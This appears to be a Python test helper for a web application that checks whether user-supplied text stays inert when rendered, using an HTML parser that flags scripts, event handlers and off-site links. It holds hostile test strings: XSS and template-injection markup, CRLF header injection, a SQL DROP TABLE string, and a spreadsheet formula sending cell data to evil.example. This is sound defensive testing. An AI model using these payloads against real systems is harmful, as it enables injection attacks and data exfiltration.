"""Whether words of strangers stay words: what they try, and a page read as a browser reads it."""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

MARK = "hostilemark"
"""An element and an attribute that no page of the house has."""
PRODUCT = 60481729
"""What a template that runs would make of 7777 * 7777."""
MARKUP = (
    f"'\"><{MARK} {MARK} onmouseover=alert(1)></textarea></title></script></style>-->"
    f"<{MARK}><svg/onload=alert(2)><img src=x onerror=alert(3)>"
    "{{7777*7777}}${7777*7777}#{7777*7777}{% print 7777*7777 %}<%= 7777*7777 %>&#60;b&#62;"
)
SCHEME = "javascript:alert(1)//https://evil.example/"
HEADERS = f"x\r\nBcc: all@evil.example\r\nSet-Cookie: {MARK}=1\r\n\r\n<{MARK}>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
CONTROLS = "a\0b\x1b[2Jc\x07\x85\u2028\ufffe\uffff\u202egpj.exe\u2066\ud800z"
OPERATORS = "' OR 1=1; DROP TABLE tickets; -- %_\\ \" NEAR(a b) * ^ : & | ! <-> () a:b from: due:<x"
LONG = "\N{GRINNING FACE}" + "x" * 3999
STYLE = "an attribute style"
_LOADING = ("src", "href", "action", "formaction", "poster", "data", "srcset", "background", "ping")
_FORBIDDEN = frozenset({"base", "object", "embed", "applet", "iframe", "frame", "math"})
_SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.\-\s]*):", re.IGNORECASE)
_OWN_SCRIPT = re.compile(r"/static/[a-z]+/[\w/]+\.js")


def faults(page: str, *, styled: bool = False) -> list[str]:
    """What in a page acts, loads or leads where those of the house do not.

    `styled`: a page of a letter, which brings its own style with it.
    """
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return [each for each in reader.found if not (styled and each.startswith(STYLE))]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script: dict[str, str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == MARK or tag in _FORBIDDEN:
            self.found.append(f"an element {tag}")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("a meta element that acts")
        if tag == "script":
            self._script = given
            if given.get("type") != "application/json" and not _OWN_SCRIPT.fullmatch(
                given.get("src", "")
            ):
                self.found.append(f"a script {given}")
        self.found += _wrong_attributes(given)

    def handle_data(self, data: str) -> None:
        if str(PRODUCT) in data:
            self.found.append("a template that ran")
        if self._script is None:
            return
        if self._script.get("type") == "application/json":
            try:
                json.loads(data)
            except ValueError:
                self.found.append("data that ends before its end")
        elif data.strip():
            self.found.append(f"a script in the page: {data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None


def _wrong_attributes(given: dict[str, str]) -> Iterator[str]:
    for name, value in given.items():
        if name == MARK or name.startswith("on") or name in ("style", "srcdoc"):
            yield f"an attribute {name}={value[:60]}"
        if name in _LOADING and (value.startswith(("//", "/\\")) or _SCHEME.match(value)):
            yield f"a way out: {name}={value[:60]}"
